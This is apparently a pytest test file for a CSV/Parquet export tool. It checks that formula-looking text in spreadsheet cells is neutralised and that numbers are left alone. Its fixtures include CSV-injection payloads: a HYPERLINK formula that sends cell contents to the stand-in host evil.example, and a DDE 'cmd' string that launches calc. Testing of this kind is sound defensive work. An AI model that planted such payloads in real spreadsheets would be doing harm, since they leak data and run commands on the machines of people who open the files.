"""CSV exports are safe to open in a spreadsheet: formula-looking text is neutralised, numbers are not."""

from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

import pytest

from nianbao.app.export import export, neutralise
from nianbao.shared.db import session_scope, upgrade
from nianbao.shared.record import Finding, Record, request_keys
from nianbao.validator.store import store_validated

NIANBAO = str(Path(sys.executable).parent / "nianbao")
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"年度报告")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3", "-3"),  # a number in text form stays a number
        ("+1.5e3", "+1.5e3"),
        ("示例县", "示例县"),
        ("a=b", "a=b"),
        (-3, -3),
        (-2.5, -2.5),
        (None, None),
    ],
)
def test_neutralise(value: object, expected: object) -> None:
    assert neutralise(value) == expected


def _store(url: str) -> None:
    values: dict[str, int | float | None] = dict.fromkeys(request_keys("gen2019"), 0)
    values["new.natural"] = -3
    record = Record(
        title=HOSTILE_TITLE,
        agency={"name": "@示例县人民政府"},
        year={"value": 2019},
        generation={"value": "gen2019"},
        tables={"requests": values},
    )
    finding = Finding(rule="requests.balance", severity="error", status="fail", where="natural", lhs=-3, rhs=0,
                      delta=-3, cells=["requests.new.natural"], message="-1 = 2")  # fmt: skip
    with session_scope(url) as session:
        store_validated(session, site_id="demo", url="http://x.gov.cn/t.html", raw_key="d" * 64, record=record,
                        findings=[finding], rules_version="r", blank_policy={})  # fmt: skip


def _read(path: Path, encoding: str = "utf-8") -> list[dict[str, str]]:
    with path.open(encoding=encoding, newline="") as fh:
        return list(csv.DictReader(fh))


def test_csv_export_neutralises_formulas_and_keeps_numbers(sqlite_url: str, tmp_path: Path) -> None:
    upgrade(sqlite_url)
    _store(sqlite_url)
    with session_scope(sqlite_url) as session:
        result = export(session, tmp_path / "out", "csv")
    reports = _read(result.files["reports"])
    assert reports[0]["title"] == "'" + HOSTILE_TITLE
    assert reports[0]["agency"] == "'@示例县人民政府"
    findings = _read(result.files["findings"])
    assert float(findings[0]["lhs"]) == -3 and float(findings[0]["delta"]) == -3
    assert findings[0]["message"] == "'-1 = 2"
    values = {row["key"]: row["value"] for row in _read(result.files["values_long"])}
    assert float(values["new.natural"]) == -3
    raw = result.files["reports"].read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    for path in result.files.values():  # no cell of any file starts a formula
        for row in _read(path):
            for cell in row.values():
                assert (cell or "x")[0] not in "=@\t\r" or cell.startswith("'"), (path.name, cell)


def test_parquet_keeps_strings_unchanged(sqlite_url: str, tmp_path: Path) -> None:
    import pandas as pd

    upgrade(sqlite_url)
    _store(sqlite_url)
    with session_scope(sqlite_url) as session:
        result = export(session, tmp_path / "out", "parquet")
    assert pd.read_parquet(result.files["reports"])["title"][0] == HOSTILE_TITLE


def test_cli_export_bom(sqlite_url: str, tmp_path: Path) -> None:
    upgrade(sqlite_url)
    _store(sqlite_url)
    env = {"NIANBAO_DATABASE_URL": sqlite_url, "PATH": "/usr/bin:/bin", "HOME": str(tmp_path)}
    done = subprocess.run([NIANBAO, "export", "--out", str(tmp_path / "b"), "--bom"], capture_output=True, text=True,
                          env=env, timeout=120)  # fmt: skip
    assert done.returncode == 0, done.stderr
    for name in ("reports", "values_long", "values_wide", "findings"):
        data = (tmp_path / "b" / f"{name}.csv").read_bytes()
        assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\xef\xbb\xbf") == 1
    assert _read(tmp_path / "b" / "reports.csv", "utf-8-sig")[0]["title"] == "'" + HOSTILE_TITLE
    refused = subprocess.run([NIANBAO, "export", "--out", str(tmp_path / "p"), "--format", "parquet", "--bom"],
                             capture_output=True, text=True, env=env, timeout=120)  # fmt: skip
    assert refused.returncode == 2 and "--bom" in refused.stderr
    unknown = subprocess.run([NIANBAO, "export", "--out", str(tmp_path / "u"), "--site", "nosuch"],
                             capture_output=True, text=True, env=env, timeout=120)  # fmt: skip
    assert unknown.returncode == 2 and "unknown site 'nosuch'" in unknown.stderr and "demo" in unknown.stderr
